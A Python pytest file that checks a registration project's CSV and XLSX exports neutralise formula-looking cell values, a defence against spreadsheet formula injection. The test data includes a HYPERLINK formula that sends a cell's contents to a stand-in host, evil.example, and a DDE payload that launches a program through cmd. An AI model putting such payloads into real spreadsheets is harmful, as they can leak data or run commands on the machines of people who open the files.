"""CSV/XLSX exports neutralise formula-looking values (issue 15, item 10)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook

from purna_registration.adapters.spreadsheet import template_csv, template_xlsx
from purna_registration.entrypoints.cli import _write_errors
from purna_shared.export import SafeCsvWriter, neutralise

pytestmark = pytest.mark.unit

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_looking_text_is_made_text(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Baiq Nurul Aini", "", "5202", "a=b", 5, -3, 2.5, None])
def test_everything_else_is_left_alone(value: object) -> None:
    assert neutralise(value) == value


def test_the_csv_writer_neutralises_every_cell() -> None:
    out = io.StringIO()
    SafeCsvWriter(out).writerows([FORMULAS, ["ok", 1]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert all(cell.startswith("'") for cell in rows[0])
    assert rows[1] == ["ok", "1"]


def test_the_import_error_export_neutralises_what_the_api_returned(tmp_path: Path) -> None:
    page = {
        "errors": {
            "items": [
                {
                    "row": 2,
                    "field": "=full_name",
                    "kind": "invalid",
                    "message": '=HYPERLINK("http://evil.example")',
                    "participant_id": "@p",
                }
            ],
            "total": 1,
        }
    }
    transport = httpx.MockTransport(lambda request: httpx.Response(200, json=page))
    with httpx.Client(transport=transport, base_url="http://registration") as client:
        assert _write_errors(client, "imp-1", tmp_path / "errors.csv") == 1
    rows = list(csv.reader((tmp_path / "errors.csv").open(encoding="utf-8")))
    assert rows[1] == ["2", "'=full_name", "invalid", '\'=HYPERLINK("http://evil.example")', "'@p"]


def test_the_templates_hold_no_formula() -> None:
    assert all(
        not cell.startswith(tuple("=+-@")) for cell in template_csv().decode("utf-8-sig").split(",")
    )
    workbook = load_workbook(io.BytesIO(template_xlsx()))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
